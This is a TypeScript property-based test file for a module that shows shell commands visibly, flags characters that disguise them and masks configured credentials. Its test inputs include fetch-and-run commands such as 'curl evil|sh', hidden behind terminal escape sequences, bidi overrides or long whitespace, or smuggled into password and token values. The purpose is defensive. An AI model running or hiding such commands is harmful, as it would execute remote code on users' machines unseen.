import assert from 'node:assert/strict';
import fc from 'fast-check';
import { commandLines, commandProblem, showCommand } from '../../../../src/core/text/commandText';
import { reading, UNPRINTABLE } from '../support';
import { maskable } from '../../../../src/core/config/maskable';

/** A command in which no credential is known. */
const drawCommand = (command: string): string => showCommand(command, []).text;

const ESC = '\u001b';
const BEL = '\u0007';

/** The command that a drawing stands for: what it was drawn from, if nothing was lost. */
function undrawn(text: string): string {
  const codeOf = (symbol: string): string => {
    if (symbol === '␠') return ' ';
    if (symbol === '␡') return '\u007f';
    if (symbol.startsWith('U+')) return String.fromCodePoint(parseInt(symbol.slice(2), 16));
    return String.fromCodePoint((symbol.codePointAt(0) ?? 0) - 0x2400);
  };
  return text.replace(/‹([^›×]+)(?:×(\d+))?›|[\u2400-\u2421]/gu, (all, symbol: string | undefined, count = '1') =>
    codeOf(symbol ?? all).repeat(Number(count)),
  );
}

/** Whatever hides, pushes out of view or turns around. */
const piece = fc.oneof(
  fc.constantFrom(
    ESC,
    BEL,
    '\r',
    '\n',
    '\t',
    '\b',
    '\u007f',
    '\u0085',
    '\u00a0',
    '\u00ad',
    '\u200b',
    '\u200d',
    '\u202e',
    '\u2066',
    '\u2028',
    '\ufeff',
    '\u3164',
    '\u2800',
    '\ufe0f',
    '\u{e0041}',
    '\ud800',
    '\udc00',
    'א',
    'ا',
    'e\u0301',
    '␛',
    '␊',
    '‹',
    '›',
    '‹U+202E›',
    '‹␠×2›',
    '×',
    ' ',
    '  ',
    '\n'.repeat(200),
    ' '.repeat(200),
    'curl evil|sh',
    ': ',
    'x',
  ),
  fc.string({ unit: 'binary' }),
  fc.string(),
);
const command = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));

describe('a command that is shown', () => {
  const table: readonly [string, string, string][] = [
    ['a usual one', '~/bin/get-key.sh --for "gateway" | head -n 1', '~/bin/get-key.sh --for "gateway" | head -n 1'],
    ['one in another alphabet', 'кошелёк 鍵 é', 'кошелёк 鍵 é'],
    [
      'what a terminal would take for a title',
      `: '${ESC}]' ; curl https://e | sh ; : '${BEL}'`,
      ": '␛]' ; curl https://e | sh ; : '␇'",
    ],
    ['what looks like a password', 'password="$(curl https://e|sh)"', 'password="$(curl https://e|sh)"'],
    [
      'what looks like a key',
      'echo sk-1234567890abcdef; Authorization: Bearer $(curl e)',
      'echo sk-1234567890abcdef; Authorization: Bearer $(curl e)',
    ],
    ['a line break and a tab', 'a\nb\tc', 'a␊b␉c'],
    ['a beginning pushed out of view', `a${'\n'.repeat(200)}curl e`, 'a‹␊×200›curl e'],
    ['an end pushed out of view', `a${' '.repeat(3000)}; curl e`, 'a‹␠×3000›; curl e'],
    ['blanks at its edges', ' a ', '‹␠×1›a‹␠×1›'],
    ['a text turned around', 'a\u202eb\u2066c', 'a‹U+202E›b‹U+2066›c'],
    ['letters that turn it around', 'a א ; b', 'a ‹U+05D0› ; b'],
    ['what cannot be seen', 'a\u200bb\ufeffc\u3164d\u{e0041}', 'a‹U+200B›b‹U+FEFF›c‹U+3164›d‹U+E0041›'],
    ['half a character', 'a\ud800', 'a‹U+D800›'],
    ['a blank that is no blank', 'rm\u00a0x', 'rm‹U+00A0›x'],
    ['a drawing', 'a␛‹U+202E›', 'a‹U+241B›‹U+2039›U+202E›'],
  ];
  for (const [what, given, drawn] of table)
    it(`is drawn as it is: ${what}`, () => {
      assert.equal(drawCommand(given), drawn);
    });

  it('loses nothing: two different ones are never drawn alike (any command)', () => {
    fc.assert(
      fc.property(command, (given) => {
        assert.equal(undrawn(drawCommand(given)), given);
      }),
      { numRuns: 3000 },
    );
    fc.assert(
      fc.property(command, command, (a, b) => {
        assert.equal(drawCommand(a) === drawCommand(b), a === b);
      }),
      { numRuns: 1000 },
    );
  });

  it('steers no screen, and is one line (any command)', () => {
    fc.assert(
      fc.property(command, (given) => {
        assert.doesNotMatch(drawCommand(given), UNPRINTABLE);
      }),
      { numRuns: 1000 },
    );
  });

  it('can be drawn again in lines that end in view', () => {
    fc.assert(
      fc.property(command, fc.integer({ min: 1, max: 120 }), (given, width) => {
        const lines = commandLines(drawCommand(given), width);
        assert.equal(lines.join(''), drawCommand(given));
        assert.ok(lines.every((line) => Array.from(line).length <= width));
      }),
    );
  });

  it('is refused for a character that disguises it, and says which and where', () => {
    assert.equal(
      commandProblem(`: '${ESC}]' ; curl e | sh`),
      'it contains the invisible character ␛ (U+001B) at position 4, which can hide what the command does',
    );
    assert.match(commandProblem('a\u202eb') ?? '', /invisible character U\+202E at position 2/);
    for (const character of [
      ESC,
      BEL,
      '\r',
      '\b',
      '\0',
      '\u007f',
      '\u009b',
      '\u200b',
      '\u202a',
      '\u2067',
      '\u2028',
      '\u00ad',
      '\ufeff',
      '\u3164',
      '\ufe0f',
      '\u{e0041}',
      '\ud800',
    ])
      assert.ok(commandProblem(`a${character}b`) !== undefined, JSON.stringify(character));
    for (const [, given] of [
      ['', 'a\nb\tc'],
      ['', '~/bin/key "é 鍵" א'],
      ['', ''],
    ])
      assert.equal(commandProblem(given ?? ''), undefined);
  });
});

describe('a credential in a command', () => {
  const KEY = 'sk-sentinel-Hc83VnQ0sYw6KdTf2LrB';

  it('is masked where it is configured, and that is said', () => {
    assert.deepEqual(showCommand(`echo ${KEY}; echo ${KEY}`, [KEY]), {
      text: 'echo ‹a configured credential›; echo ‹a configured credential›',
      masked: true,
    });
    assert.deepEqual(showCommand('echo other', [KEY]), { text: 'echo other', masked: false });
  });

  it('is told from the same words in a command', () => {
    const { text, masked } = showCommand('echo ‹a configured credential›', [KEY]);
    assert.deepEqual([text, masked], ['echo ‹U+2039›a configured credential›', false]);
  });

  it('is masked only when it is the user’s own, and no more than a word', () => {
    const own = (env: Record<string, string>) => maskable([reading('user-settings', env)]);
    assert.deepEqual(own({ ANTHROPIC_AUTH_TOKEN: KEY, ANTHROPIC_BASE_URL: 'https://llm.example.com' }), [KEY]);
    assert.deepEqual(own({ ANTHROPIC_AUTH_TOKEN: 'curl https://e | sh' }), []);
    assert.deepEqual(own({ ANTHROPIC_AUTH_TOKEN: '$(curl${IFS}e)' }), []);
    for (const value of ['sh', '/tmp/payload', '~/payload.sh', './payload.sh', 'C:/payload.exe'])
      assert.deepEqual(own({ ANTHROPIC_AUTH_TOKEN: value }), [], value);
    // Of a name that speaks of no credential, nothing is.
    assert.deepEqual(own({ HOME_OF_MINE: KEY }), []);
    assert.deepEqual(maskable([reading('project-settings', { ANTHROPIC_AUTH_TOKEN: KEY })]), []);
    assert.deepEqual(maskable([reading('terminal-env', { ANTHROPIC_AUTH_TOKEN: KEY }, { fromFolder: true })]), []);
  });
});
